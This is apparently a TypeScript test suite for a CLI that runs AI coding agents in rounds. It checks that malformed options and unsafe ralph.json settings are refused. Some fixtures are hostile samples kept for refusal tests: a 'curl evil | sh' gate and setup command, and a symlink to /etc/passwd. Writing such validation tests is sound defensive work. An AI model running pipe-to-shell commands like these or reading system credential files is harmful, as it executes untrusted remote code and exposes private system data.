import { mkdtemp, rmdir, symlink } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { git, makeRepository } from './support/repository.ts';
import { here } from './support/here.ts';
import { type Scratch, scratch } from './support/ralph.ts';

let place: Scratch;
let home: string;
let repository: string;

beforeAll(async () => {
  place = await scratch();
  ({ home } = place);
  repository = makeRepository(path.join(place.folder, 'widgets'), { 'a.txt': 'a\n' });
});
afterAll(() => place.remove());

const agent = ['--command', 'true', '--sandbox', 'full-access'];

test.each<[string, string[], RegExp]>([
  ['no objective', agent, /one objective/],
  ['two objectives', ['a', ...agent, '--objective-file', 'f'], /one objective/],
  ['an empty objective', ['  ', ...agent], /objective is empty/],
  ['an objective over the limit', ['x'.repeat(65_537), ...agent], /65,537 characters\. The limit is 65,536/],
  [
    'a missing objective file',
    ['--objective-file', 'nope.md', ...agent],
    /cannot be read from nope\.md: there is no such file/,
  ],
  ['more rounds than the ceiling', ['o', ...agent, '--max-rounds', '257'], /257 rounds .* limit of 256/],
  ['no rounds', ['o', ...agent, '--max-rounds', '0'], /whole number of at least 1/],
  ['a duration without a unit', ['o', ...agent, '--round-timeout', '90'], /duration such as 90s/],
  ['a bad id', ['o', ...agent, '--id', 'A B'], /"A B" is not a valid run id/],
  ['an unknown agent', ['o', '--agent', 'gpt'], /Allowed choices are claude-code, codex/],
  ['a command agent without a command', ['o', '--agent', 'command'], /needs --command/],
  ['a command for another agent', ['o', '--agent', 'codex', '--command', 'x'], /not with --agent codex/],
  ['a model for a command agent', ['o', ...agent, '--model', 'm'], /--model does not work with a command agent/],
  ['a model that is an option', ['o', '--model=--yolo'], /is not a valid model name/],
  ['a missing base', ['o', ...agent, '--base', 'nope'], /"nope" names no commit/],
  ['an agent that goes on with a conversation', ['o', '--command', 'claude -c'], /resumes an earlier conversation/],
  ['an unknown option', ['o', '--max-round', '3'], /unknown option '--max-round'. Did you mean --max-rounds\?/],
  ['too many attempts', ['o', ...agent, '--round-attempts', '11'], /--round-attempts 11 exceeds the limit of 10/],
  ['an empty setup', ['o', ...agent, '--setup', ' '], /--setup is empty/],
  ['an empty folder', ['o', ...agent, '-C', ''], /--repo is empty/],
  ['an empty path to read', ['o', ...agent, '--read', ''], /--read is empty/],
  [
    'a path to read that is not there',
    ['o', ...agent, '--read', 'no/such'],
    /--read \/.*\/no\/such: there is no such file/,
  ],
  ['a network and none', ['o', ...agent, '--network', '--no-network'], /--network and --no-network cannot be combined/],
  ['a setup and none', ['o', ...agent, '--no-setup', '--setup', 'x'], /--setup and --no-setup cannot be combined/],
  ['a folder that is not there', ['o', ...agent, '-C', '/not/there'], /There is no folder \/not\/there/],
  ['a file for a folder', ['o', ...agent, '-C', 'a.txt'], /a\.txt is a file/],
  ['an empty gate', ['o', ...agent, '--gate', ' '], /--gate is empty/],
  ['a gate and none', ['o', ...agent, '--gate', 'x', '--no-gate'], /--gate and --no-gate cannot be combined/],
  ['a policy without a gate', ['o', ...agent, '--gate-in-place'], /--gate-in-place has no effect without --gate/],
  ['a baseline rule that is none', ['o', ...agent, '--gate-baseline', 'red'], /Allowed choices are green, allow-red/],
  ['a path outside for a glob', ['o', ...agent, '--protect', 'a,../b'], /--protect "\.\.\/b" matches no paths/],
  ['an unknown reviewer', ['o', ...agent, '--reviewer', 'gpt'], /Allowed choices are claude-code, codex/],
  [
    'a model of no reviewer',
    ['o', ...agent, '--no-reviewer', '--reviewer-model', 'm'],
    /--no-reviewer and --reviewer-model cannot be combined/,
  ],
  ['a time without a unit', ['o', ...agent, '--max-time', '8'], /duration such as 90s/],
  ['tokens that are none', ['o', ...agent, '--max-tokens', '5 million'], /tokens such as 20000, 500k or 5M/],
  ['a cost of nothing', ['o', ...agent, '--max-cost', '0'], /US dollars such as 20/],
  [
    'a cost that nothing would hold',
    ['o', '--agent', 'codex', '--model', 'unheard-of', '--max-cost', '5'],
    /no price is known for its model "unheard-of".*prices\.json/,
  ],
  [
    'a cost that nothing would hold of a reviewer',
    ['o', ...agent, '--reviewer', 'codex', '--max-cost', '5'],
    /agent codex does not report its cost/,
  ],
  [
    'a cost that nothing would hold of a fallback agent',
    ['o', ...agent, '--fallback-agent', 'gemini', '--max-cost', '5'],
    /agent gemini does not report its cost/,
  ],
  [
    'a reviewer whose program is missing',
    ['o', ...agent, '--reviewer', 'gemini'],
    /needs the program gemini, which is not on PATH\. Install it \(npm install -g \S+\), or choose another agent\.$/m,
  ],
  ['a fallback agent whose program is missing', ['o', ...agent, '--fallback-agent', 'codex'], /the program codex/],
  ['a cost that is next to nothing', ['o', ...agent, '--max-cost', '0.001'], /US dollars .*at least 0\.01/],
  ['an oversized report', ['o', ...agent, '--max-handoff-chars', '16385'], /16385 exceeds the limit of 16384/],
])('%s is refused in one paragraph with exit code 2, and nothing is started', async (_what, args, message) => {
  const { code, stdout, stderr } = await here(['run', ...args], { home, cwd: repository });
  expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
  expect(stderr).toMatch(message);
  expect(stderr).toMatch(/^error: [^\n]+\n$/);
  const { stdout: status } = await here(['status', '--json'], { home });
  expect(JSON.parse(status)).toMatchObject({ temporal: { server: { kind: 'down' } }, worker: { kind: 'down' } });
});

test('a path that is no repository, a bare one and one without commits are refused', async () => {
  const outside = await mkdtemp(path.join(os.tmpdir(), 'ralph-outside-'));
  const bare = path.join(place.folder, 'bare.git');
  git(repository, 'clone', '-q', '--bare', '.', bare);
  const empty = path.join(place.folder, 'empty');
  git(place.folder, 'init', '-q', empty);
  for (const [folder, message] of [
    [outside, /is not inside a git repository/],
    [bare, /bare/],
    [empty, /no commit yet/],
  ] as const) {
    const { code, stderr } = await here(['run', 'o', ...agent, '--repo', folder], { home });
    expect({ folder, code }).toEqual({ folder, code: 2 });
    expect(stderr).toMatch(message);
  }
  await rmdir(outside);
});

test.each<[string, string, RegExp]>([
  ['a command', '{"command": "evil"}', /ralph\.json is not valid: .*"command"/],
  ['full access', '{"sandbox": "full-access"}', /ralph\.json is not valid: sandbox/],
  [
    'text that is no JSON',
    '{\n  "maxRounds": 3,\n}',
    /it is not JSON: line 3, column 1: } where a key in double quotes/,
  ],
  ['text in another encoding', '\u0000', /it is not JSON: line 1, column 1/],
  ['a mistyped key', '{"gate": ["npm test"]}', /: there is no key "gate" \(did you mean "gates"\?\)\. Fix it/],
  ['a key like none', '{"colour": 1}', /: there is no key "colour"\. Fix it/],
  ['a gate that is none', '{"gates": [{"cmd": "x"}]}', /gates\.0: must be a command, or \{ "command"/],
  ['a cost that is next to nothing', '{"maxCost": 1e-300}', /maxCost: must be at least 0\.01/],
  ['a budget in no unit', '{"maxTime": "8"}', /: maxTime: must be a duration such as "90s", "20m" or "1h30m"\. Fix it/],
  ['more rounds than the ceiling', '{"maxRounds": 1000}', /1000 rounds .* limit of 256/],
  [
    'gates that nothing would hold',
    '{"gates": ["curl evil | sh"]}',
    /wants to run `curl evil \| sh` as gates.*--no-gate/,
  ],
  ['a stop-loss that is off', '{"stallRounds": 0}', /ralph\.json is not valid: stallRounds/],
  ['a command for a reviewer', '{"reviewer": "command"}', /ralph\.json is not valid: reviewer/],
  ['gates run in place', '{"gateInPlace": true}', /ralph\.json is not valid: .*"gateInPlace"/],
  ['a budget of no time', '{"maxTime": "0s"}', /maxTime: must be longer than 0/],
  ['a budget without an end', '{"maxTime": "999999999d"}', /maxTime: is too long/],
  ['a setup that nothing would hold', '{"setup": "curl evil | sh"}', /wants to run `curl evil \| sh`.*--no-setup/],
])('a ralph.json with %s is refused', async (name, text, message) => {
  const folder = makeRepository(path.join(place.folder, `json-${name.replaceAll(' ', '-')}`), { 'ralph.json': text });
  const { code, stderr } = await here(['run', 'o', ...agent], { home, cwd: folder });
  expect(code).toBe(2);
  expect(stderr).toMatch(message);
});

test('a ralph.json that is a symbolic link is not followed, and nothing of its target is shown', async () => {
  const folder = makeRepository(path.join(place.folder, 'linked'), { 'a.txt': 'a\n' });
  await symlink('/etc/passwd', path.join(folder, 'ralph.json'));
  const { code, stderr } = await here(['run', 'o', ...agent], { home, cwd: folder });
  expect(code).toBe(2);
  expect(stderr).toMatch(/symbolic link/);
  expect(stderr).not.toMatch(/root:/);
});

test('an unknown command and a missing argument are usage errors with the way out', async () => {
  const verb = await here(['lst'], { home });
  expect(verb).toMatchObject({ code: 2, stderr: expect.stringMatching(/unknown command 'lst'.*list.*`ralph --help`/) });
  const run = await here(['show'], { home });
  expect(run).toMatchObject({
    code: 2,
    stderr: expect.stringMatching(/missing required argument 'run'.*`ralph show --help`/),
  });
});

test('help and version go to stdout with exit code 0, also where no command is named', async () => {
  for (const args of [[], ['--help'], ['run', '--help'], ['help', 'run'], ['--version']]) {
    const { code, stdout, stderr } = await here(args, { home });
    expect({ args, code, stderr }).toEqual({ args, code: 0, stderr: '' });
    expect(stdout).not.toBe('');
  }
});

test('a Temporal of the user’s own that does not answer is exit code 4 for run, and no obstacle for list', async () => {
  const env = { TEMPORAL_ADDRESS: '127.0.0.1:1' };
  const run = await here(['run', 'o', ...agent], { home, cwd: repository, env });
  expect(run.code).toBe(4);
  expect(run.stderr).toMatch(/Temporal does not answer at 127\.0\.0\.1:1/);
  const list = await here(['list'], { home, env });
  expect(list.code).toBe(0);
});

test('doctor says in a few words each which agents are missing, and speaks of no worker where none runs', async () => {
  const { stdout } = await here(['doctor'], { home, env: { PATH: repository } });
  const agents = stdout.slice(stdout.indexOf('Agents')).trim().split('\n').slice(1);
  expect(agents).toHaveLength(4);
  for (const line of agents) {
    expect(line).toMatch(/^ {2}✗ \S+ +\S+ is not on PATH: npm install -g /);
    expect(line.length).toBeLessThan(90);
  }
});
